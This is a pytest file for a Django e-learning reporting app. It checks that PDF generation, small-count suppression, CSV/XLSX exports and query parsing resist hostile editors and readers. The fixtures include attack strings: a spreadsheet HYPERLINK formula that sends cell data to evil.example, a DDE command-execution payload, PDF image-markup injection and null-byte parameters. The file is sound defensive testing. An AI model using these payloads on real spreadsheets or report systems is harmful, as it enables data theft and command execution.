"""Attacks on the coverage reports (issue 14): database text read as PDF markup, suppressed
counts recovered by subtraction, spreadsheet formulas in exports, malformed parameters.
Each test first reproduces the attack as a hostile editor or reader would make it."""

import csv
import io
import subprocess

import pytest
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook
from PIL import Image

from elearning.coverage import services
from elearning.coverage.models import PdfReport
from elearning.progress.models import Certificate
from tests.factories.accounts import UserFactory
from tests.factories.coverage import (
    PlanFactory,
    complete,
    headcount,
    months_ago,
    page,
    profile,
    reader,
)
from tests.factories.geo import CommuneFactory, ProvinceFactory


def _run(callbacks):
    for callback in callbacks:
        callback()


def _pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


def _image_sizes(data: bytes, tmp_path) -> list[tuple[int, int]]:
    """(width, height) of every image in the PDF, as poppler's pdfimages lists them."""
    path = tmp_path / "images.pdf"
    path.write_bytes(data)
    listing = subprocess.run(
        ["pdfimages", "-list", str(path)], capture_output=True, text=True, check=True
    ).stdout.splitlines()[2:]
    return [(int(row.split()[3]), int(row.split()[4])) for row in listing]


def _make_pdf(client, plan, django_capture_on_commit_callbacks, unit=None):
    url = reverse("coverage_reports:pdf", args=[plan.pk]) + (f"?unit={unit.pk}" if unit else "")
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.post(url)
    _run(callbacks)
    return PdfReport.objects.latest("requested_at")


# --- 1. Database text is text in the PDF, never markup --------------------------------------


def test_database_text_cannot_embed_a_server_file_or_break_the_pdf(
    client, communes, ninh_binh, tmp_path, django_capture_on_commit_callbacks
):
    # A file on the worker's disk that ReportLab would happily embed as an image.
    secret = tmp_path / "secret.png"
    Image.new("RGB", (40, 40), "red").save(secret)
    hostile = f'<img src="{secret}" width="200" height="200"/>'
    ninh_binh.name = "Tỉnh <b>Ninh Bình"  # broken markup: ReportLab raises on it
    ninh_binh.save()
    communes[0].name = '<font size="40">Xã to</font>'
    communes[0].save()
    course = page(title="<b>Khoá học</b> <a href='javascript:alert(1)'>x</a>")
    profile(communes[0], population=100)
    complete(commune=communes[0], people=6, course=course, passed=True, best_score=1.0)
    services.refresh_commune_rollups(commune_id=communes[0].pk)
    plan = PlanFactory(
        scope_unit=ninh_binh, title=hostile, number="<b>38/KH", issuer="<font size=40>BCĐ"
    )
    client.force_login(reader(ninh_binh))

    report = _make_pdf(client, plan, django_capture_on_commit_callbacks)
    assert report.status == PdfReport.Status.READY, report.failure_reason
    data = report.file.read()
    # The only pictures are the report's own charts: the 40×40 file on the disk is not one.
    assert (40, 40) not in _image_sizes(data, tmp_path)
    text = " ".join(_pdf_text(data, tmp_path).split())
    assert "<img src=" in text and "<b>38/KH" in text and "<FONT SIZE=40>BCĐ" in text
    assert "Tỉnh <b>Ninh Bình" in text

    # The commune's own PDF carries its hostile name as text too.
    report = _make_pdf(client, plan, django_capture_on_commit_callbacks, unit=communes[0])
    assert report.status == PdfReport.Status.READY, report.failure_reason
    assert '<font size="40">Xã to</font>' in _pdf_text(report.file.read(), tmp_path)


def test_a_pdf_that_cannot_be_made_is_shown_as_failed_with_its_reason(
    client, communes, ninh_binh, tmp_path, django_capture_on_commit_callbacks
):
    plan = PlanFactory(scope_unit=ninh_binh)
    client.force_login(reader(ninh_binh))
    overview = reverse("coverage_reports:overview", args=[plan.pk])
    # The storage cannot be written (its folder is a file): a real OSError in the task.
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("")
    with override_settings(
        STORAGES={
            "default": {
                "BACKEND": "django.core.files.storage.FileSystemStorage",
                "OPTIONS": {"location": str(blocker)},
            },
            "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"},
        }
    ):
        report = _make_pdf(client, plan, django_capture_on_commit_callbacks)
    assert report.status == PdfReport.Status.FAILED
    assert report.failure_reason
    content = client.get(overview).content.decode()
    assert "Không tạo được bản PDF" in content and report.failure_reason in content
    assert "Đang chuẩn bị bản PDF" not in content

    # A reader moved out of the area before the task ran: a failure with that reason.
    user = reader(ninh_binh)
    client.force_login(user)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.post(reverse("coverage_reports:pdf", args=[plan.pk]))
    services.set_report_scope(user=user, unit=ProvinceFactory(code="01", name="Hà Nội"))
    _run(callbacks)
    report = PdfReport.objects.get(requested_by=user)
    assert report.status == PdfReport.Status.FAILED
    assert "phạm vi" in report.failure_reason


# --- 2. A suppressed count cannot be recovered by subtraction -------------------------------


def _certificates(commune, agency, people):
    course = page(title="Khoá học cho cán bộ")
    for _ in range(people):
        Certificate.objects.create(
            learner=UserFactory(),
            course=course,
            score=90,
            learner_name="Cán bộ",
            course_title=course.title,
            commune=commune,
            audience=agency,
        )


def test_agency_rows_do_not_give_away_a_small_agency_by_subtraction(client, communes, ninh_binh):
    # 43 staff trained: 27 police, 7 procuracy, 6 court, 3 border guard.
    for agency, people in [("police", 27), ("procuracy", 7), ("court", 6), ("border_guard", 3)]:
        headcount(ninh_binh, agency=agency, value=50)
        _certificates(communes[0], agency, people)
    services.refresh_commune_rollups(commune_id=communes[0].pk)
    plan = PlanFactory(scope_unit=ninh_binh)
    client.force_login(reader(ninh_binh))
    url = reverse("coverage_reports:overview", args=[plan.pk])
    figures = client.get(url).context["object_list"]
    total = next(f for f in figures if f.code == "staff_trained" and not f.is_detail)
    agencies = [f for f in figures if f.code == "staff_trained" and f.is_detail]
    assert total.numerator_display == 43
    shown = [f.numerator_display for f in agencies if isinstance(f.numerator_display, int)]
    hidden = [f for f in agencies if not isinstance(f.numerator_display, int)]
    # 43 − 27 − 7 − 6 = 3 no longer works: at least two agencies hidden, together ≥ 5.
    assert len(hidden) >= 2 and 43 - sum(shown) >= 5
    assert all(f.value_display == f.numerator_display for f in hidden)
    # The exports carry the same cells.
    rows = _csv(client.get(url + "?export=csv"))
    exported = {row[0]: row for row in rows}
    for figure in hidden:
        assert exported[figure.label][4] in {"<5", "*"}


def test_a_province_minus_its_shown_communes_does_not_give_away_a_small_commune(
    client, communes, ninh_binh
):
    for commune, people in zip(communes, [30, 3, 12], strict=True):
        profile(commune, population=1000)
        complete(commune=commune, people=people)
        services.refresh_commune_rollups(commune_id=commune.pk)
    plan = PlanFactory(scope_unit=ninh_binh)
    client.force_login(reader(ninh_binh))
    overview = reverse("coverage_reports:overview", args=[plan.pk])
    areas = reverse("coverage_reports:areas", args=[plan.pk])
    province = client.get(overview).context["object_list"]
    assert next(f for f in province if f.code == "reach").numerator_display == 45

    rows = {row.name: row for row in client.get(areas).context["object_list"]}
    hidden = [name for name, row in rows.items() if not isinstance(row.reach_display, float)]
    # Gia Viễn (3) is hidden, and so is the next smallest (Kim Sơn, 12), so 45 − 30 is 15,
    # shared by two hidden communes.
    assert sorted(hidden) == ["Xã Gia Viễn", "Xã Kim Sơn"]
    assert rows["Phường Hoa Lư"].reach_display == 3.0

    # Kim Sơn's own overview cannot be used to fill the gap either.
    kim_son = client.get(overview + f"?unit={communes[2].pk}").context["object_list"]
    reach = next(f for f in kim_son if f.code == "reach")
    assert reach.numerator_display != 12 and reach.value_display != 1.2

    # Nor the exports.
    book = _xlsx(client.get(areas + "?export=xlsx"))
    text = "\n".join(
        " ".join(str(c) for c in row if c is not None)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
    )
    assert "Xã Kim Sơn" in text and " 1.2" not in text
    csv_rows = {row[0]: row for row in _csv(client.get(areas + "?export=csv"))}
    assert csv_rows["Xã Kim Sơn"][1] in {"<5", "*", ""}


def test_a_province_row_hidden_in_the_country_table_is_not_given_away_by_its_communes(
    client, communes, ninh_binh, hanoi_commune
):
    # Country: 45 reached. Hải Phòng 30, Ninh Bình 12 (Hoa Lư 7, Gia Viễn 5), Hà Nội 3.
    hai_phong = CommuneFactory(province=ProvinceFactory(code="31", name="Thành phố Hải Phòng"))
    for commune, people in [(hai_phong, 30), (communes[0], 7), (communes[1], 5)]:
        profile(commune, population=1000)
        complete(commune=commune, people=people)
        services.refresh_commune_rollups(commune_id=commune.pk)
    profile(hanoi_commune, population=1000)
    complete(commune=hanoi_commune, people=3)
    services.refresh_commune_rollups(commune_id=hanoi_commune.pk)
    plan = PlanFactory(scope_unit=None)
    client.force_login(reader())
    areas = reverse("coverage_reports:areas", args=[plan.pk])
    overview = reverse("coverage_reports:overview", args=[plan.pk])

    country = next(
        f for f in client.get(overview).context["object_list"] if f.code == "reach"
    ).numerator_display
    provinces = {row.name: row.figures["reach"] for row in client.get(areas).context["object_list"]}
    assert country == 45 and provinces["Thành phố Hà Nội"].numerator_display == "<5"
    assert provinces["Tỉnh Ninh Bình"].numerator_display == "*"
    # The hostile reader adds up Ninh Bình's communes on its own page (and in its exports)...
    page = client.get(areas + f"?unit={ninh_binh.pk}").context["object_list"]
    csv_rows = _csv(client.get(areas + f"?unit={ninh_binh.pk}&export=csv"))
    for communes_shown in (
        [row.figures["reach"].numerator_display for row in page],
        [row[1] for row in csv_rows[1:]],  # percentages of a shown population of 1000
    ):
        # ...to fill the gap of Ninh Bình and then of Hà Nội: 45 − 30 − (7 + 5) = 3.
        assert {"<5", "*"} & set(communes_shown), communes_shown


def test_the_monthly_chart_does_not_give_away_the_few_who_joined_in_a_month(
    client, communes, ninh_binh
):
    # 10 people reached three months ago, 3 more this month: 13 in all, shown.
    profile(communes[0], population=1000)
    complete(commune=communes[0], people=10, when=months_ago(3))
    complete(commune=communes[0], people=3)
    services.refresh_commune_rollups(commune_id=communes[0].pk)
    plan = PlanFactory(scope_unit=ninh_binh)
    client.force_login(reader(ninh_binh))
    response = client.get(reverse("coverage_reports:overview", args=[plan.pk]))
    reach = next(f for f in response.context["object_list"] if f.code == "reach")
    assert (reach.numerator_display, reach.denominator_display) == (13, 1000)
    # The chart's points are cumulative rates of the shown population: the hostile reader
    # subtracts any two of them to count who joined in between.
    points = [v for _day, v in response.context["view"].overview.series["reach"] if v is not None]
    assert points and round(points[-1] * 10) == 13
    joined = {round((b - a) * 10) for i, a in enumerate(points) for b in points[i + 1 :]}
    assert not [n for n in joined if 0 < n < 5], joined


# --- 3. Spreadsheet formulas in exports are text --------------------------------------------


def test_exported_cells_cannot_be_formulas(client, communes, ninh_binh):
    communes[0].name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    communes[0].save()
    communes[1].name = "+cmd|' /C calc'!A0"
    communes[1].save()
    communes[2].name = "@SUM(1+1)"
    communes[2].save()
    for commune in communes:
        profile(commune, population=100)
    plan = PlanFactory(scope_unit=ninh_binh, title="-2+3", number="=1+1", issuer="@evil")
    client.force_login(reader(ninh_binh))
    areas = reverse("coverage_reports:areas", args=[plan.pk])
    index = reverse("coverage_reports:index")
    cells = [cell for row in _csv(client.get(areas + "?export=csv")) for cell in row]
    cells += [cell for row in _csv(client.get(index + "?export=csv")) for cell in row]
    book = _xlsx(client.get(areas + "?export=xlsx"))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    book = _xlsx(client.get(index + "?export=xlsx"))
    cells += [c for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r]
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert any("HYPERLINK" in text for text in texts)  # the names are still there
    assert not [text for text in texts if text[:1] in {"=", "+", "-", "@", "\t", "\r"}]


# --- 4. Malformed parameters: a 404 or the page with a message, never a 500 -----------------


@pytest.mark.parametrize(
    "query",
    [
        "unit=abc",
        "unit=1.5",
        "unit=%00",
        "unit=-1",
        "unit=99999999999999999999999",
        "unit=",
        "ordering=%00",
        "ordering=-reach_sort%27",
        "indicator=%00",
        "export=pdf",
        "export=%00",
        "period=2020-13",
        "period=%00",
        "compare=x",
        "q=%00",
        "q=" + "a " * 2000,
    ],
)
def test_malformed_report_parameters_never_answer_500(client, communes, ninh_binh, query):
    plan = PlanFactory(scope_unit=ninh_binh)
    client.force_login(reader(ninh_binh))
    for name in ["overview", "areas"]:
        response = client.get(reverse(f"coverage_reports:{name}", args=[plan.pk]) + "?" + query)
        assert response.status_code in {200, 404}, (name, query, response.status_code)
    response = client.post(reverse("coverage_reports:pdf", args=[plan.pk]) + "?" + query)
    assert response.status_code in {302, 404}
    assert client.get(reverse("coverage_reports:index") + "?" + query).status_code in {200, 404}


def _csv(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _xlsx(response):
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(data))
